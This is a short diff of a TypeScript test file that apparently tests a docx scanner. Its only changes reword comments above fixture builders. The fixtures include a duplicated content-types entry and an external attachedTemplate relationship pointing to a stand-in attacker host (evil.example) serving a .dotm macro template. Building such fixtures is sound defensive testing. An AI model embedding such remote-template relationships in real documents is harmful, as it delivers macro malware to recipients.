@@ -20,12 +20,12 @@ it.each([
 })
 
 const macroMain = "application/vnd.ms-word.document.macroEnabled.main+xml"
-/** Some readers would take the last table of contents, some the first, some all. */
+/** Readers differ in which directory they use. */
 async function twoContents(): Promise<Buffer> {
   const bytes = await docxOf(wordMain, { "[Content_Types].xmX": "<Types/>" })
   return Buffer.from(bytes.toString("latin1").replaceAll(".xmX", ".xml"), "latin1")
 }
-/** One relation to a template elsewhere, written as no program does. */
+/** One external relation in an unusual spelling. */
 const docxWith = (before: string, mode = "External", prefix = "", inside = "") => {
   const type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
   const relation = `<${prefix}Relationship ${before}Type="${type}" Target="https://evil.example/t.dotm" TargetMode="${mode}"/>`
